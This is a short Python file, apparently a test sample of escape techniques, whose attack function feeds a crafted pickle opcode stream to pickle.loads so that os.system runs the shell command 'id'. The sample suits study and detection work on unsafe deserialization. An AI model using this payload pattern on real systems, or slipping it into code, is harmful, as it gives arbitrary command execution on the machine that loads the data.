# mypy: ignore-errors
# Technique: `import pickle` and loads() a GLOBAL os.system opcode stream.
import pickle


def attack(secret_path, canary_path):
    return pickle.loads(b"cos\nsystem\n(S'id'\ntR.")
